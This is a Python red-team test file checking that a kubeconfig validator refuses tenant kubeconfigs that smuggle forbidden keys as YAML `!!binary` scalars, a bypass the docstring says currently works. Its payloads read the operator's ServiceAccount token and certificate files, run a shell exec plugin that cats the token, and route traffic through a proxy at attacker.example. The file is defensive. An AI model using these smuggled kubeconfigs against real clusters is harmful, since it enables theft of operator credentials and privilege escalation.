"""Red team, issue 26: the pure parts of the helmd, helm-storage and web rows, attacked as a
tenant. Each test FAILS if the attack succeeds.

Broken (at the time of writing): the kubeconfig check reads the tenant's file with PyYAML,
where a `!!binary` key is bytes; client-go's YAML (the one helm and helmd load the same file
with) decodes that key to its text. So `!!binary dG9rZW5GaWxl` is not "tokenFile" for the
check, and is for helm: file paths, exec plugins and proxies pass the check.
"""

from __future__ import annotations

import base64

import pytest
from alecton.reconcile.kubeconfig import KubeconfigRefusedError, check_kubeconfig


def _binary(key: str) -> str:
    """`key` as the YAML `!!binary` scalar that client-go's YAML reads back as `key`."""
    return "!!binary " + base64.b64encode(key.encode()).decode()


def _kubeconfig(cluster_extra: str = "", user_extra: str = "") -> bytes:
    return f"""apiVersion: v1
kind: Config
current-context: c
clusters:
- name: k
  cluster:
    server: https://10.0.0.1:443
{cluster_extra}contexts:
- name: c
  context: {{cluster: k, user: u}}
users:
- name: u
  user:
    token: tenant-token
{user_extra}""".encode()


# Each one, written with its plain key, is refused today (test_access.py); written as a
# `!!binary` key it reaches helm unchanged.
SMUGGLED = {
    "the operator's ServiceAccount token": _kubeconfig(
        user_extra=f"    {_binary('tokenFile')}: /var/run/secrets/kubernetes.io/serviceaccount/token\n"
    ),
    "the operator's client certificate and key": _kubeconfig(
        user_extra=f"    {_binary('client-certificate')}: /operator/pki/admin.crt\n"
        f"    {_binary('client-key')}: /operator/pki/admin.key\n"
    ),
    "the operator's CA file": _kubeconfig(
        cluster_extra=f"    {_binary('certificate-authority')}: "
        "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt\n"
    ),
    "an exec plugin (a program run inside the operator)": _kubeconfig(
        user_extra=f"    {_binary('exec')}: {{apiVersion: client.authentication.k8s.io/v1, "
        "command: /bin/sh, args: [-c, 'cat /var/run/secrets/kubernetes.io/serviceaccount/token']}\n"
    ),
    "a proxy of the tenant's choice": _kubeconfig(
        cluster_extra=f"    {_binary('proxy-url')}: http://attacker.example:3128\n"
    ),
    "TLS verification off": _kubeconfig(cluster_extra=f"    {_binary('insecure-skip-tls-verify')}: true\n"),
}


@pytest.mark.parametrize("what", list(SMUGGLED))
def test_a_binary_tagged_key_cannot_smuggle_what_the_kubeconfig_check_refuses(what: str) -> None:
    with pytest.raises(KubeconfigRefusedError):
        check_kubeconfig(SMUGGLED[what])
